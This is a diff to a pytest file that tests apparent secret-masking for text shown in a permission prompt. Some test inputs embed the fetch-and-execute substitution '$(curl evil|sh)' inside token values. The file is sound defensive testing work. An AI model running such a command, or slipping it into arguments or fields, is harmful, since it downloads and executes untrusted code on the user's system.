@@ -108,7 +108,8 @@ def test_what_is_no_report_changes_nothing(message: bytes) -> None:
 @pytest.mark.parametrize(
     ("question", "expected"),
     [
-        ("token=$(curl evil|sh) make", "token=[hidden] evil|sh) make\n1 value is not shown; deny if in doubt"),
+        ("token=$(curl evil|sh) make", "token=$(curl evil|sh) make"),
+        ("token=s3cret77$(curl evil|sh) make", "token=[hidden] evil|sh) make\n1 value is not shown; deny if in doubt"),
         ("token: s3cret77 password: s3cret88", "token: [hidden] password: [hidden]\n2 values are not shown; deny if in doubt"),
         ("-----BEGIN PRIVATE KEY-----[hidden] rm", "[hidden]\n1 value is not shown; deny if in doubt"),
         ("token=[hidden] make", "token=[hidden] make"),
